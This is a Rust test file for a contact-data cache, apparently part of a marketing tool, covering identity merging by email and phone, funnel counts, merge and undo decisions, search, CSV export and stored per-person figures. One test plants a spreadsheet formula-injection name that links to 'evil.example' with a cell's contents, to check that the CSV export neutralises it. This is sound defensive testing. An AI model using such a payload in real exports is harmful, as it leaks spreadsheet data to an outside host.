//! People against the sandbox's truth: its shared population is synced into a real cache file
//! with the built-in definitions' identity fields, and the persons the cache finds are
//! compared with the persons the sandbox says are behind each record.

use std::collections::HashMap;

use patchbay_cache::{
    Cache, ColumnKind, DateRange, FunnelStepKind, IdentityFields, PeopleQuery, RecordRef, SyncMode,
};
use patchbay_sandbox::population::PeopleRecord;
use patchbay_sandbox::{Sandbox, SandboxConfig};
use serde_json::{json, Value};

use crate::{col, open as temp_cache};

const ACCOUNT: &str = "a1";

/// The built-in definition's identity section of a provider's resource, as the cache reads it.
fn identity(provider: &str, resource: &str) -> IdentityFields {
    let defs = patchbay_core::providers::builtin();
    let def = defs.iter().find(|d| d.id == provider).unwrap();
    let res = def.resources.iter().find(|r| r.id == resource).unwrap();
    let fields = res.identity.as_ref().unwrap();
    serde_json::from_value(serde_json::to_value(fields).unwrap()).unwrap()
}

fn place(r: &PeopleRecord) -> RecordRef {
    RecordRef {
        provider: r.truth.provider.into(),
        account: ACCOUNT.into(),
        resource: r.truth.resource.into(),
        record_id: r.truth.record_id.clone(),
    }
}

/// Stores records through the sync writer, a page of 250 at a time, as a sync does.
fn store(cache: &Cache, records: &[&PeopleRecord], mode: SyncMode) {
    let mut by_resource: HashMap<(&str, &str), Vec<&PeopleRecord>> = HashMap::new();
    for r in records {
        by_resource
            .entry((r.truth.provider, r.truth.resource))
            .or_default()
            .push(r);
    }
    let columns = [col("id", "Id", "/id", ColumnKind::Text)];
    for ((provider, resource), rows) in by_resource {
        cache
            .set_identity(provider, resource, Some(&identity(provider, resource)))
            .unwrap();
        let mut w = cache
            .begin_sync(provider, ACCOUNT, resource, &columns, mode)
            .unwrap();
        for page in rows.chunks(250) {
            let page: Vec<(String, Value)> = page
                .iter()
                .map(|r| (r.truth.record_id.clone(), r.record.clone()))
                .collect();
            w.write_page(&page, Some("next")).unwrap();
        }
        w.finish().unwrap();
    }
}

/// Pairwise precision and recall of the cache's persons against the truth.
fn score(cache: &Cache, records: &[PeopleRecord]) -> (f64, f64) {
    let mut cells: HashMap<(i64, u64), u64> = HashMap::new();
    let mut found: HashMap<i64, u64> = HashMap::new();
    let mut truth: HashMap<u64, u64> = HashMap::new();
    for r in records {
        let person = cache
            .person_of(&place(r))
            .unwrap()
            .unwrap_or_else(|| panic!("{:?} was not resolved", r.truth));
        *cells.entry((person, r.truth.person)).or_default() += 1;
        *found.entry(person).or_default() += 1;
        *truth.entry(r.truth.person).or_default() += 1;
    }
    let pairs = |n: &u64| n * n.saturating_sub(1) / 2;
    let together: u64 = cells.values().map(pairs).sum();
    let claimed: u64 = found.values().map(pairs).sum();
    let real: u64 = truth.values().map(pairs).sum();
    (
        together as f64 / claimed.max(1) as f64,
        together as f64 / real.max(1) as f64,
    )
}

async fn population(records: usize) -> (Sandbox, Vec<PeopleRecord>) {
    let sb = Sandbox::start(
        "127.0.0.1:0".parse().unwrap(),
        SandboxConfig {
            records,
            seed: 7,
            ..SandboxConfig::default()
        },
    )
    .await
    .unwrap();
    let records = sb.people_records();
    // The truth the app's end-to-end tests read is the same as the library's.
    let served: Vec<Value> = reqwest::get(format!("{}/_sandbox/truth", sb.url()))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(served.len(), records.len());
    assert_eq!(
        served[0],
        json!({"provider": records[0].truth.provider, "resource": records[0].truth.resource,
               "record_id": records[0].truth.record_id, "person": records[0].truth.person})
    );
    (sb, records)
}

#[tokio::test(flavor = "multi_thread")]
async fn identity_precision_and_recall_against_the_sandbox_truth() {
    let (_sb, records) = population(40).await;
    let (_dir, cache) = temp_cache();
    // All but the last 100 records first; then those, as one more page of a later sync.
    let (first, last) = records.split_at(records.len() - 100);
    store(&cache, &first.iter().collect::<Vec<_>>(), SyncMode::Full);
    let (precision, recall) = score(&cache, first);
    println!(
        "identity over {} records: precision {:.4}, recall {:.4}",
        first.len(),
        precision,
        recall
    );
    assert!(precision >= 0.99 && recall >= 0.99, "{precision} {recall}");

    let before = cache
        .people(&PeopleQuery {
            limit: 1,
            ..Default::default()
        })
        .unwrap()
        .total;
    store(
        &cache,
        &last.iter().collect::<Vec<_>>(),
        SyncMode::Incremental,
    );
    let (precision, recall) = score(&cache, &records);
    println!(
        "identity over {} records after one more page: precision {:.4}, recall {:.4}",
        records.len(),
        precision,
        recall
    );
    assert!(precision >= 0.99 && recall >= 0.99, "{precision} {recall}");
    // Every lead's number, in whichever format, was read as a phone.
    let with_leads = cache
        .people(&PeopleQuery {
            tool: Some("whatconverts".into()),
            limit: 10_000,
            ..Default::default()
        })
        .unwrap();
    assert!(with_leads.matched > 0);
    assert!(
        with_leads
            .rows
            .iter()
            .all(|p| p.phone.as_deref().is_some_and(|p| p.starts_with("+1"))),
        "a lead's phone was not read"
    );
    let people: std::collections::HashSet<u64> = records.iter().map(|r| r.truth.person).collect();
    let after = cache
        .people(&PeopleQuery {
            limit: 1,
            ..Default::default()
        })
        .unwrap()
        .total;
    assert!(after >= before, "the last page only adds or joins people");
    let off = (after as f64 - people.len() as f64).abs() / people.len() as f64;
    assert!(off < 0.01, "{after} people found, {} real", people.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn funnel_counts_equal_the_truth() {
    let (_sb, records) = population(30).await;
    let (_dir, cache) = temp_cache();
    store(&cache, &records.iter().collect::<Vec<_>>(), SyncMode::Full);
    // The truth's funnel: people with a lead, then of those with a registration, then of those
    // who attended one, then of those with an order (and those orders' revenue).
    let mut lead = HashMap::new();
    let mut reg = HashMap::new();
    let mut attended = HashMap::new();
    let mut orders: HashMap<u64, f64> = HashMap::new();
    for r in &records {
        let p = r.truth.person;
        match (r.truth.provider, r.truth.resource) {
            (_, "leads") => {
                lead.insert(p, ());
            }
            ("webinargeek", _) => {
                reg.insert(p, ());
                if r.record["watched"] == json!(true) {
                    attended.insert(p, ());
                }
            }
            ("clickfunnels", "orders") => {
                let amount: f64 = r.record["total_amount"].as_str().unwrap().parse().unwrap();
                *orders.entry(p).or_default() += amount;
            }
            _ => {}
        }
    }
    let l: Vec<u64> = lead.keys().copied().collect();
    let g: Vec<u64> = l.iter().copied().filter(|p| reg.contains_key(p)).collect();
    let a: Vec<u64> = g
        .iter()
        .copied()
        .filter(|p| attended.contains_key(p))
        .collect();
    let o: Vec<u64> = a
        .iter()
        .copied()
        .filter(|p| orders.contains_key(p))
        .collect();
    let revenue: f64 = o.iter().map(|p| orders[p]).sum();
    let funnel = cache.funnel(&DateRange::default()).unwrap();
    let counts: Vec<(FunnelStepKind, u64)> =
        funnel.steps.iter().map(|s| (s.step, s.people)).collect();
    println!(
        "funnel {counts:?}, truth {} {} {} {}",
        l.len(),
        g.len(),
        a.len(),
        o.len()
    );
    assert_eq!(
        counts,
        vec![
            (FunnelStepKind::Leads, l.len() as u64),
            (FunnelStepKind::Registrations, g.len() as u64),
            (FunnelStepKind::Attended, a.len() as u64),
            (FunnelStepKind::Orders, o.len() as u64),
        ]
    );
    assert!(!o.is_empty(), "the population reaches the last step");
    assert!(
        (funnel.steps[3].revenue - revenue).abs() < 0.01,
        "{} {revenue}",
        funnel.steps[3].revenue
    );
    let rate = funnel.steps[1].rate.unwrap();
    assert!((rate - g.len() as f64 / l.len() as f64).abs() < 1e-9);
}

fn lead(id: &str, email: Option<&str>, phone: Option<&str>, name: &str) -> (String, Value) {
    (
        id.to_string(),
        json!({"lead_id": id, "contact_email_address": email, "contact_phone_number": phone,
               "contact_name": name, "date_created": "2025-03-04T10:00:00Z",
               "lead_source": "google", "lead_medium": "cpc", "lead_campaign": "Spring"}),
    )
}

fn leads_cache() -> (tempfile::TempDir, Cache) {
    let (dir, cache) = temp_cache();
    cache
        .set_identity(
            "whatconverts",
            "leads",
            Some(&identity("whatconverts", "leads")),
        )
        .unwrap();
    (dir, cache)
}

fn write(cache: &Cache, mode: SyncMode, records: &[(String, Value)]) {
    let columns = [col("id", "Id", "/lead_id", ColumnKind::Text)];
    let mut w = cache
        .begin_sync("whatconverts", ACCOUNT, "leads", &columns, mode)
        .unwrap();
    w.write_page(records, None).unwrap();
    w.finish().unwrap();
}

fn person(cache: &Cache, id: &str) -> i64 {
    cache
        .person_of(&RecordRef {
            provider: "whatconverts".into(),
            account: ACCOUNT.into(),
            resource: "leads".into(),
            record_id: id.into(),
        })
        .unwrap()
        .unwrap()
}

#[test]
fn a_bridging_record_merges_two_people_and_its_removal_splits_them() {
    let (_dir, cache) = leads_cache();
    let a = lead("1", Some(" Ana@Example.com"), None, "Ana Ruiz");
    let b = lead("2", None, Some("(512) 555-0142"), "Ana R.");
    write(&cache, SyncMode::Incremental, &[a.clone(), b.clone()]);
    assert_ne!(person(&cache, "1"), person(&cache, "2"));
    let bridge = lead(
        "3",
        Some("ana@example.com "),
        Some("+15125550142"),
        "Ana Ruiz",
    );
    write(&cache, SyncMode::Incremental, &[bridge]);
    let one = person(&cache, "1");
    assert_eq!(person(&cache, "2"), one);
    assert_eq!(person(&cache, "3"), one);
    let detail = cache.person(one).unwrap();
    assert_eq!(detail.person.leads, 3);
    assert_eq!(detail.timeline.len(), 3);
    assert_eq!(detail.person.source.as_deref(), Some("google"));
    assert!(
        detail.timeline[0]
            .summary
            .starts_with("Lead · google / cpc"),
        "{}",
        detail.timeline[0].summary
    );
    assert!(detail.timeline.iter().all(|t| t.index.is_some()));
    // A full pass without the bridge: the provider deleted it, so the two are apart again.
    write(&cache, SyncMode::Full, &[a, b]);
    assert_ne!(person(&cache, "1"), person(&cache, "2"));
    assert_eq!(
        cache
            .people(&PeopleQuery {
                limit: 10,
                ..Default::default()
            })
            .unwrap()
            .total,
        2
    );
    // Search finds a person by any record's phone, also as bare digits.
    let found = cache
        .people(&PeopleQuery {
            search: "5125550142".into(),
            limit: 10,
            ..Default::default()
        })
        .unwrap();
    assert_eq!(
        found.rows.iter().map(|r| r.id).collect::<Vec<_>>(),
        vec![person(&cache, "2")]
    );
}

#[test]
fn a_name_only_match_is_a_suggestion_until_confirmed_and_undo_splits_again() {
    let (_dir, cache) = leads_cache();
    write(
        &cache,
        SyncMode::Incremental,
        &[
            lead("1", Some("maria@example.com"), None, "Maria Lopez"),
            lead("2", Some("m.lopez@example.org"), None, "  maria  LOPEZ"),
            lead("3", Some("someone@example.org"), None, "Chen Wang"),
        ],
    );
    let (one, two) = (person(&cache, "1"), person(&cache, "2"));
    assert_ne!(one, two, "a name alone never merges");
    let suggested = cache.merge_suggestions(one).unwrap();
    assert_eq!(
        suggested.iter().map(|s| s.person.id).collect::<Vec<_>>(),
        vec![two]
    );
    assert!(suggested[0].reason.contains("Same name"));

    let (decision, merged) = cache.confirm_merge(one, two).unwrap();
    assert_eq!(person(&cache, "1"), merged);
    assert_eq!(person(&cache, "2"), merged);
    assert_eq!(cache.person(merged).unwrap().timeline.len(), 2);
    // The decision holds through later syncs of the same records.
    write(
        &cache,
        SyncMode::Incremental,
        &[lead(
            "2",
            Some("m.lopez@example.org"),
            Some("512 555 0199"),
            "Maria Lopez",
        )],
    );
    assert_eq!(person(&cache, "1"), person(&cache, "2"));

    cache.undo_decision(decision).unwrap();
    assert_ne!(person(&cache, "1"), person(&cache, "2"));
    assert!(
        cache.undo_decision(decision).is_err(),
        "an undone decision cannot be undone again"
    );

    // A split keeps records apart that their email would join; undo joins them again.
    write(
        &cache,
        SyncMode::Incremental,
        &[lead("4", Some("MARIA@example.com"), None, "Maria Lopez")],
    );
    let maria = person(&cache, "1");
    assert_eq!(person(&cache, "4"), maria);
    let four = RecordRef {
        provider: "whatconverts".into(),
        account: ACCOUNT.into(),
        resource: "leads".into(),
        record_id: "4".into(),
    };
    let (split, apart) = cache.split_person(maria, &[four]).unwrap();
    assert_eq!(person(&cache, "4"), apart);
    assert_ne!(person(&cache, "1"), apart);
    cache.undo_decision(split).unwrap();
    assert_eq!(person(&cache, "1"), person(&cache, "4"));
}

#[test]
fn people_filter_sort_and_export() {
    let (_dir, cache) = leads_cache();
    write(
        &cache,
        SyncMode::Incremental,
        &[
            lead("1", Some("a@example.com"), None, "Ana"),
            lead("2", Some("b@example.com"), None, "Bo"),
        ],
    );
    let page = cache
        .people(&PeopleQuery {
            sort: Some(patchbay_cache::PeopleSort {
                key: patchbay_cache::PeopleSortKey::Name,
                descending: true,
            }),
            tool: Some("whatconverts".into()),
            limit: 10,
            ..Default::default()
        })
        .unwrap();
    assert_eq!(
        page.rows
            .iter()
            .map(|r| r.name.clone().unwrap())
            .collect::<Vec<_>>(),
        ["Bo", "Ana"]
    );
    assert_eq!(page.rows[0].tools, ["whatconverts"]);
    let none = cache
        .people(&PeopleQuery {
            tool: Some("boomtown".into()),
            limit: 10,
            ..Default::default()
        })
        .unwrap();
    assert_eq!((none.total, none.matched), (2, 0));
    let out_of_range = cache
        .people(&PeopleQuery {
            range: DateRange {
                from: Some("2025-03-05".into()),
                to: None,
            },
            limit: 10,
            ..Default::default()
        })
        .unwrap();
    assert_eq!(out_of_range.matched, 0);
    let bad = cache.people(&PeopleQuery {
        range: DateRange {
            from: Some("last tuesday".into()),
            to: None,
        },
        limit: 10,
        ..Default::default()
    });
    assert!(bad.unwrap_err().to_string().contains("is not a date"));
    let mut csv = Vec::new();
    assert_eq!(
        cache.people_csv(&PeopleQuery::default(), &mut csv).unwrap(),
        2
    );
    let csv = String::from_utf8(csv).unwrap();
    assert!(csv.starts_with("Name,Email,Phone,First seen"), "{csv}");
    assert!(
        csv.contains("Ana,a@example.com,,2025-03-04T10:00:00Z"),
        "{csv}"
    );
    let by_source = cache
        .attribution(&DateRange::default(), patchbay_cache::AttributionBy::Source)
        .unwrap();
    assert_eq!(by_source.len(), 1);
    assert_eq!(
        (by_source[0].value.as_str(), by_source[0].people),
        ("google", 2)
    );
}

/// A search's matches are read once and serve the count and the page: every page of a
/// search, a search with a sort, and a search with a filter agree with the people it matches.
#[test]
fn a_search_pages_sorts_and_filters_over_its_matches() {
    let (_dir, cache) = leads_cache();
    let names = [
        "Maria Lopez",
        "Bo Chan",
        "Mark Lee",
        "Ana Diaz",
        "Marta Kim",
        "Mo Farah",
        "Omar Ruiz",
        "Marisol Vega",
        "Ed Marsh",
        "Tim Mars",
    ];
    let leads: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(i, n)| lead(&i.to_string(), Some(&format!("p{i}@example.com")), None, n))
        .collect();
    write(&cache, SyncMode::Incremental, &leads);
    // "mar" is a prefix of a first or last name for these, and of no email.
    let expected: Vec<&str> = vec![
        "Maria Lopez",
        "Mark Lee",
        "Marta Kim",
        "Marisol Vega",
        "Ed Marsh",
        "Tim Mars",
    ];
    let search = |sort, tool: Option<&str>, offset, limit| {
        cache
            .people(&PeopleQuery {
                search: "mar".into(),
                sort,
                tool: tool.map(str::to_string),
                offset,
                limit,
                ..Default::default()
            })
            .unwrap()
    };
    let name = |r: &patchbay_cache::PersonRow| r.name.clone().unwrap();
    // Pages of two, and one past the end: together, every match once, in id order.
    let mut paged = Vec::new();
    for offset in [0, 2, 4, 6] {
        let page = search(None, None, offset, 2);
        assert_eq!((page.total, page.matched), (10, 6));
        paged.extend(page.rows.iter().map(name));
    }
    assert_eq!(paged, expected);
    assert!(search(None, None, u64::MAX, 2).rows.is_empty());
    // Sorted by name, descending: the same people, in the other order.
    let sort = Some(patchbay_cache::PeopleSort {
        key: patchbay_cache::PeopleSortKey::Name,
        descending: true,
    });
    let sorted = search(sort, None, 0, 10);
    let mut want = expected.clone();
    want.sort_by_key(|name| std::cmp::Reverse(name.to_lowercase()));
    assert_eq!(
        (
            sorted.matched,
            sorted.rows.iter().map(name).collect::<Vec<_>>()
        ),
        (6, want.iter().map(|s| s.to_string()).collect())
    );
    // With a filter: the search's matches that pass it.
    let other_tool = search(None, Some("boomtown"), 0, 10);
    assert_eq!(
        (other_tool.total, other_tool.matched, other_tool.rows.len()),
        (10, 0, 0)
    );
    let this_tool = search(None, Some("whatconverts"), 2, 3);
    assert_eq!(this_tool.matched, 6);
    assert_eq!(
        this_tool.rows.iter().map(name).collect::<Vec<_>>(),
        expected[2..5]
    );
}

#[test]
fn the_people_csv_never_starts_a_formula() {
    let (_dir, cache) = leads_cache();
    // A visitor typed a formula as their name in a web form.
    let name = r#"=HYPERLINK("https://evil.example/?"&A2,"x")"#;
    write(
        &cache,
        SyncMode::Incremental,
        &[lead("1", Some("a@example.com"), Some("+15125550142"), name)],
    );
    let mut csv = Vec::new();
    cache.people_csv(&PeopleQuery::default(), &mut csv).unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_slice());
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[0], format!("'{name}"), "the formula is text");
    assert_eq!(&row[1], "a@example.com", "other cells are unchanged");
    assert_eq!(
        &row[2], "'+15125550142",
        "a leading + could start a formula too"
    );
}

/// A person's figures as the People table defines them, straight from their records: the
/// per-person subqueries resolution ran before it settled a page's persons in batches, kept
/// here as the rule the stored figures must follow.
const FIGURES_BY_DEFINITION: &str = "
SELECT p.id,
  (SELECT count(*) FROM record_person WHERE person_id = p.id),
  (SELECT min(at) FROM record_person WHERE person_id = p.id),
  (SELECT max(at) FROM record_person WHERE person_id = p.id),
  (SELECT name FROM record_person WHERE person_id = p.id AND name IS NOT NULL
   ORDER BY at IS NULL, at, resource_id, record_id LIMIT 1),
  (SELECT email FROM record_person WHERE person_id = p.id AND email IS NOT NULL
   ORDER BY at IS NULL, at, resource_id, record_id LIMIT 1),
  (SELECT phone FROM record_person WHERE person_id = p.id AND phone IS NOT NULL
   ORDER BY at IS NULL, at, resource_id, record_id LIMIT 1),
  (SELECT source FROM record_person WHERE person_id = p.id AND source IS NOT NULL
   ORDER BY at IS NULL, at, resource_id, record_id LIMIT 1),
  (SELECT medium FROM record_person WHERE person_id = p.id AND source IS NOT NULL
   ORDER BY at IS NULL, at, resource_id, record_id LIMIT 1),
  (SELECT campaign FROM record_person WHERE person_id = p.id AND source IS NOT NULL
   ORDER BY at IS NULL, at, resource_id, record_id LIMIT 1),
  (SELECT count(*) FROM record_person WHERE person_id = p.id AND role = 'lead'),
  (SELECT count(*) FROM record_person WHERE person_id = p.id AND role = 'registration'),
  (SELECT count(*) FROM record_person WHERE person_id = p.id AND role = 'registration' AND attended = 1),
  (SELECT count(*) FROM record_person WHERE person_id = p.id AND role = 'order'),
  (SELECT coalesce(sum(amount), 0) FROM record_person WHERE person_id = p.id AND role = 'order'),
  (SELECT coalesce(group_concat(provider, ','), '') FROM (
     SELECT DISTINCT r.provider FROM record_person rp JOIN resources r ON r.id = rp.resource_id
     WHERE rp.person_id = p.id ORDER BY r.provider))
FROM person p ORDER BY p.id";

const FIGURES_STORED: &str = "
SELECT id, records, first_seen, last_seen, name, email, phone, source, medium, campaign, leads,
  registrations, attended, orders, revenue, tools
FROM person ORDER BY id";

/// (id, records, (first, last seen), (name, email, phone), (source, medium, campaign),
/// (leads, registrations, attended, orders), revenue, tools)
type Figures = (
    i64,
    i64,
    (Option<i64>, Option<i64>),
    (Option<String>, Option<String>, Option<String>),
    (Option<String>, Option<String>, Option<String>),
    (i64, i64, i64, i64),
    f64,
    String,
);

fn figures(conn: &rusqlite::Connection, sql: &str) -> Vec<Figures> {
    conn.prepare(sql)
        .unwrap()
        .query_map([], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                (r.get(2)?, r.get(3)?),
                (r.get(4)?, r.get(5)?, r.get(6)?),
                (r.get(7)?, r.get(8)?, r.get(9)?),
                (r.get(10)?, r.get(11)?, r.get(12)?, r.get(13)?),
                r.get(14)?,
                r.get(15)?,
            ))
        })
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

/// Compares every person's stored figures with their definition; answers how many persons.
fn assert_figures_follow_the_records(dir: &std::path::Path) -> usize {
    let conn = rusqlite::Connection::open(dir.join("cache.sqlite3")).unwrap();
    let want = figures(&conn, FIGURES_BY_DEFINITION);
    let got = figures(&conn, FIGURES_STORED);
    assert_eq!(got.len(), want.len());
    for (got, want) in got.iter().zip(&want) {
        // Revenue is a float sum: the same amounts, perhaps added in another order.
        assert!((got.6 - want.6).abs() < 1e-9, "{got:?} {want:?}");
        let (mut got, mut want) = (got.clone(), want.clone());
        (got.6, want.6) = (0.0, 0.0);
        assert_eq!(got, want);
    }
    // Every person has records (one left without is removed), and a name key follows the name.
    let orphans: i64 = conn
        .query_row(
            "SELECT count(*) FROM person p
             WHERE NOT EXISTS (SELECT 1 FROM record_person WHERE person_id = p.id)
                OR (p.name IS NULL) <> (p.name_folded IS NULL)",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(orphans, 0);
    want.len()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_persons_figures_follow_their_records() {
    let (_sb, records) = population(20).await;
    let (dir, cache) = temp_cache();
    let (first, last) = records.split_at(records.len() - 60);
    store(&cache, &first.iter().collect::<Vec<_>>(), SyncMode::Full);
    store(
        &cache,
        &last.iter().collect::<Vec<_>>(),
        SyncMode::Incremental,
    );
    assert!(assert_figures_follow_the_records(dir.path()) > 100);

    // First touch is the oldest record with a source (undated ones last), its medium and
    // campaign with it even where an older record has a medium alone; then a bridge merges,
    // its removal splits, and a decision re-resolves.
    let dated = |id: &str, email: &str, at: Option<&str>, source: Option<&str>, medium: &str| {
        (
            id.to_string(),
            json!({"lead_id": id, "contact_email_address": email, "contact_name": format!("N {id}"),
                   "date_created": at, "lead_source": source, "lead_medium": medium,
                   "lead_campaign": format!("c{id}")}),
        )
    };
    let (ldir, leads) = leads_cache();
    let page = [
        dated("1", "x@example.com", None, Some("undated"), "m1"),
        dated(
            "2",
            "x@example.com",
            Some("2025-03-05T00:00:00Z"),
            Some("later"),
            "m2",
        ),
        dated(
            "3",
            "x@example.com",
            Some("2025-03-01T00:00:00Z"),
            None,
            "m3",
        ),
        dated(
            "4",
            "x@example.com",
            Some("2025-03-03T00:00:00Z"),
            Some("first"),
            "m4",
        ),
        dated(
            "5",
            "y@example.com",
            Some("2025-03-02T00:00:00Z"),
            Some("other"),
            "m5",
        ),
    ];
    write(&leads, SyncMode::Incremental, &page);
    let x = leads.person(person(&leads, "1")).unwrap().person;
    assert_eq!(
        (
            x.source.as_deref(),
            x.medium.as_deref(),
            x.campaign.as_deref()
        ),
        (Some("first"), Some("m4"), Some("c4"))
    );
    assert_eq!(x.name.as_deref(), Some("N 3"), "the oldest record's name");
    assert_figures_follow_the_records(ldir.path());
    let bridge = (
        "6".to_string(),
        json!({"lead_id": "6", "contact_email_address": "y@example.com",
               "contact_phone_number": "(512) 555-0142", "contact_name": "Bridge"}),
    );
    let by_phone = (
        "7".to_string(),
        json!({"lead_id": "7", "contact_email_address": "x@example.com",
               "contact_phone_number": "512.555.0142", "date_created": "2025-02-01T00:00:00Z"}),
    );
    write(&leads, SyncMode::Incremental, &[bridge, by_phone]);
    assert_eq!(person(&leads, "1"), person(&leads, "5"));
    assert_figures_follow_the_records(ldir.path());
    write(&leads, SyncMode::Full, &page);
    assert_ne!(person(&leads, "1"), person(&leads, "5"));
    assert_eq!(assert_figures_follow_the_records(ldir.path()), 2);
    let (decision, _) = leads
        .confirm_merge(person(&leads, "1"), person(&leads, "5"))
        .unwrap();
    assert_eq!(assert_figures_follow_the_records(ldir.path()), 1);
    leads.undo_decision(decision).unwrap();
    assert_eq!(assert_figures_follow_the_records(ldir.path()), 2);
}
